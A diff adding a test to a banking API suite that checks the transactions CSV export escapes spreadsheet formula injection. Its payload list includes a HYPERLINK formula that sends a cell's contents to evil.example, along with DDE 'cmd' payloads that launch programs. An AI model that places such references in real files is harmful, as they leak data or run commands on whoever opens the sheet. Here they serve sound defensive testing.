@@ -120,6 +120,31 @@ def test_every_query_agrees_with_the_ledger(api_url: str, kafka_bootstrap: str) 
     run(api_url, scenario)
 
 
+# References a spreadsheet would run as formulas (CSV injection), each with what the export must make of it.
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Refund")', "@SUM(1)", "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\tTAB=1+1", "\rCR=1+1"]
+
+
+def test_the_transactions_csv_neutralises_formulas(api_url: str) -> None:
+    """Every reference that could start a formula reaches the reader's spreadsheet as text (a leading quote);
+    a negative amount is a plain number and stays one."""
+    async def scenario(bank: Bank) -> None:
+        account = await bank.open(customer=f"cust-{uuid.uuid4().hex[:8]}")
+        for reference in FORMULAS:
+            assert (await bank.deposit(account, "10.00", reference=reference)).status_code == 200
+        assert (await bank.withdraw(account, "12.50", reference="cash at the counter")).status_code == 200
+        response = await bank.get(f"/v1/accounts/{account}/transactions.csv")
+        assert response.status_code == 200, response.text
+        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+        assert sorted(r["reference"] for r in rows if r["type"] == "deposit") == sorted("'" + f for f in FORMULAS)
+        assert [(r["amount"], r["reference"]) for r in rows if r["type"] == "withdrawal"] == [
+            ("-12.50", "cash at the counter")]
+        json_items = (await bank.get(f"/v1/accounts/{account}/transactions")).json()["items"]
+        assert sorted(i["reference"] for i in json_items if i["type"] == "deposit") == sorted(FORMULAS)
+
+    run(api_url, scenario)
+
+
 def test_transaction_filters(api_url: str) -> None:
     async def scenario(bank: Bank) -> None:
         [a, b, _], _ = await _mixed_history(bank, f"cust-{uuid.uuid4().hex[:8]}")
